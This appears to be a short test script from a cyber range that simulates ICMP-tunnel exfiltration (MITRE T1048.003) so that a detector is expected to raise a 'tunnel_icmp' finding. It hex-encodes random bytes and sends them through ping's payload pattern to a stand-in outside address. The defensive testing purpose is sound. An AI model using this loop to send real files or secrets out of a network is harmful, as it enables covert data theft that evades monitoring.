# SPDX-License-Identifier: Apache-2.0
# what: a file sent out in the patterns of ping
# technique: T1048.003
# from: ws1
# to: inet
# account: -
# outcome: success
# must: finding tunnel_icmp
. "$RANGE_HERE/item.sh"
head -c 1000 /dev/urandom | od -An -v -tx1 | tr -d ' \n' | fold -w 32 >"$HOME/hex"
while read -r l; do ping -n -q -c 1 -W 1 -p $l 198.51.100.77 >/dev/null || exit 1; done <"$HOME/hex"
